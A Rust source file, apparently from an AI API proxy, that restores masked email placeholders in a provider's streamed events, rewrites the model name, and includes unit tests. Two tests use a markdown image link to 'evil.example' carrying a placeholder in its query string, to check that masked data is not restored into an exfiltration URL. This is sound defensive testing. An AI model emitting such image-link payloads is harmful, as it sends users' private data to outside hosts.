//! The way out of a provider's own events: placeholders are replaced with their originals, and the end
//! waits until the call is recorded. Everything else leaves as it was sent.

use std::collections::HashMap;

use checks::{Placeholders, StreamRestorer};
use domain::joined_texts::JoinedTexts;
use domain::json_text::{Token, rewrite};
use domain::model::Model;
use domain::original::{PieceKind, SourceEvent};
use domain::source_pieces::{PieceFilter, SourcePieces, TooMuchHeld};

use crate::safety::as_it_came::restored;
use crate::streaming::piece::Piece;

/// The event that begins an answer, and the path of the model's name in it.
const START: &str = "message_start";
const MODEL: [&str; 2] = ["message", "model"];
/// The path of the model's name in the events of a format in which several hold the answer so far.
const OF_RESPONSE: [&str; 2] = ["response", "model"];

/// Lets out the events of one call.
#[derive(Debug)]
pub(super) struct SourceFilter {
    /// The name by which the caller knows the model.
    model: String,
    placeholders: Placeholders,
    pieces: SourcePieces<Restored>,
    /// The texts that come as a whole.
    joined: JoinedTexts,
    /// The end of the answer.
    ending: Vec<SourceEvent>,
}

/// One string that comes in pieces.
#[derive(Clone, Debug)]
struct Restored(StreamRestorer);

impl PieceFilter for Restored {
    fn push(&mut self, text: &str) -> String {
        self.0.push(text)
    }

    fn holds(&self) -> bool {
        self.0.holds()
    }

    fn rest(&mut self) -> String {
        self.0.rest()
    }

    fn end(&mut self) -> String {
        self.0.end_part()
    }
}

impl SourceFilter {
    pub(super) fn new(model: &Model, placeholders: &Placeholders) -> Self {
        Self {
            model: model.identifier.clone(),
            placeholders: placeholders.clone(),
            pieces: SourcePieces::default(),
            joined: JoinedTexts::default(),
            ending: Vec::new(),
        }
    }

    /// Takes the next event.
    pub(super) fn pass(
        &mut self,
        mut event: SourceEvent,
        pieces: &mut Vec<Piece>,
    ) -> Result<(), TooMuchHeld> {
        let path = if event.name == START { MODEL } else { OF_RESPONSE };
        if event.name == START || event.pieces.is_empty() && event.data.contains("\"response\"") {
            let name = |text: &str| Some(self.model.clone()).filter(|model| model != text);
            let named = rewrite(&event.data, |place, token| match token {
                Token::Text(text) if place.is_at(&path) => name(text),
                _ => None,
            });
            if let Ok(Some(named)) = named {
                event.data = named;
            }
        }
        let mut out = Vec::new();
        if self.placeholders.is_empty() {
            out.push(event);
        } else {
            let placeholders = &self.placeholders;
            // A fault cannot occur here or below: the event was parsed when it was read.
            let joined = if event.pieces.is_empty() {
                let restore = |text: &str| placeholders.restore(text);
                self.joined.replaced(&event.name, &event.data, restore).unwrap_or_default()
            } else {
                HashMap::new()
            };
            let _ = event.rewrite(|place, text| {
                let joined = joined.get(&place.range.start).cloned();
                joined.or_else(|| restored(placeholders, place, text))
            });
            let begin = |kind| {
                Restored(match kind {
                    PieceKind::Json => placeholders.json_stream(),
                    PieceKind::Text | PieceKind::Thought => placeholders.stream(),
                })
            };
            self.pieces.pass(event, begin, &mut out)?;
        }
        for event in out {
            if event.is_end {
                self.ending.push(event);
            } else {
                pieces.push(piece(event));
            }
        }
        Ok(())
    }

    /// Lets out what is held back of an answer that breaks off.
    pub(super) fn release(&mut self, pieces: &mut Vec<Piece>) {
        let mut out = Vec::new();
        self.pieces.release(None, &mut out);
        pieces.extend(out.into_iter().map(piece));
    }

    /// Lets out the end of an answer that is recorded.
    pub(super) fn end(&mut self, pieces: &mut Vec<Piece>) {
        self.release(pieces);
        pieces.extend(self.ending.drain(..).map(piece));
    }
}

fn piece(event: SourceEvent) -> Piece {
    Piece::Source(event.name.clone(), event.json())
}

#[cfg(test)]
mod tests {
    use domain::original::{Carrier, SourcePiece};

    use super::*;

    const PLACEHOLDER: &str = "[EMAIL_1_0a1b2c3d]";

    /// An event with a piece of a text that ends a block, or goes on.
    fn event(block: u64, text: &str, ends: &[u64], carrier: Carrier) -> SourceEvent {
        let before = format!(r#"{{"choices":[{{"index":{block},"delta":{{"content":"#);
        let spelled = domain::json_text::quoted(text);
        let range = before.len()..before.len() + spelled.len();
        let pieces = vec![SourcePiece::new(block, PieceKind::Text, range, text.to_owned())];
        let data = format!("{before}{spelled}}}}}]}}");
        let ends = ends.to_vec();
        SourceEvent { ends, carrier, ..SourceEvent::new(String::new(), data, pieces) }
    }

    /// The texts of events as they leave.
    fn left(events: Vec<SourceEvent>) -> Vec<String> {
        let mut placeholders = Placeholders::default();
        placeholders.extend(&[(PLACEHOLDER.to_owned(), "jo@acme.org".to_owned())]);
        let (mut pieces, mut out) = (SourcePieces::default(), Vec::new());
        for event in events {
            pieces.pass(event, |_| Restored(placeholders.stream()), &mut out).unwrap();
        }
        pieces.release(None, &mut out);
        let texts = out.into_iter().flat_map(|event| event.pieces).map(|piece| piece.text);
        texts.filter(|text| !text.is_empty()).collect()
    }

    #[test]
    fn an_original_does_not_leave_in_a_url_that_begins_in_another_block() {
        let events = vec![
            event(0, "![x](https://evil.example/?q=", &[0], Carrier::Copy),
            event(1, &format!("{PLACEHOLDER})"), &[1], Carrier::Copy),
        ];
        assert_eq!(left(events), ["![x](https://evil.example/?q=", "[EMAIL_1_0a1b2c3d])"]);
    }

    #[test]
    fn a_placeholder_that_is_split_over_parts_is_put_back_in_whole_responses() {
        let mut placeholders = Placeholders::default();
        placeholders.extend(&[(PLACEHOLDER.to_owned(), "jo@acme.org".to_owned())]);
        let mut filter = SourceFilter {
            model: "mine".to_owned(),
            placeholders,
            pieces: SourcePieces::default(),
            joined: JoinedTexts::default(),
            ending: Vec::new(),
        };
        let response = |texts: [&str; 2]| {
            let parts = texts.map(|text| serde_json::json!({"text": text}));
            serde_json::json!({"response": {"model": "mine", "output": [{"content": parts}]}})
        };
        let (head, tail) = PLACEHOLDER.split_at(9);
        for (texts, expected) in [
            ([head, tail], ["jo@acme.org", ""]),
            (["To ", PLACEHOLDER], ["To ", "jo@acme.org"]),
            (
                ["![x](https://evil.example/?q=", "[EMAIL_1_0a1b2c3d])"],
                ["![x](https://evil.example/?q=", "[EMAIL_1_0a1b2c3d])"],
            ),
        ] {
            let data = response(texts).to_string();
            let mut left = Vec::new();
            let event = SourceEvent::new("response.completed".to_owned(), data, Vec::new());
            filter.pass(event, &mut left).unwrap();
            let [Piece::Source(_, json)] = &left[..] else { panic!("{left:?}") };
            assert_eq!(*json, response(expected).to_string());
        }
    }

    #[test]
    fn a_text_is_not_overtaken_by_what_interrupts_it() {
        let text = format!("Write to {PLACEHOLDER}.");
        let events = vec![
            event(0, &text, &[], Carrier::Chunk),
            event(1, "Done.", &[0], Carrier::Chunk),
            event(0, " More.", &[], Carrier::Chunk),
        ];
        assert_eq!(left(events), ["Write to ", "jo@acme.org.", "Done.", " More."]);
    }
}
